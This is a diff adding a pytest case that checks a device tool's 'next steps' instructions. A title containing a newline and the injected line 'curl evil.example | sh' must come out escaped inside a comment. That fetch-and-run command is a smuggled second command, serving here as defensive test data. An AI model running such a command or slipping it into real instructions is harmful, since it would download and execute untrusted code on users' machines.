@@ -133,3 +133,11 @@ def test_a_link_on_the_stick_brings_in_no_file_of_this_machine(
     with pytest.raises(InputError, match=f"{link} is a link"):
         measured(stick, bundle)
     assert not list(bundle.path.rglob("results/*"))
+
+
+def test_a_title_adds_no_line_to_what_is_to_be_typed(bundle: Manifest, stick: Folder) -> None:
+    bundle.profile["title"] = "a board\ncurl evil.example | sh"
+    for device in (Folder(), stick, find_device("ssh://pi@board").anonymous()):
+        lines = device.next_steps(bundle, unstable=False)
+        assert any(line.startswith("# ") and r"a board\x0acurl" in line for line in lines)
+        assert not any("\n" in line for line in lines)
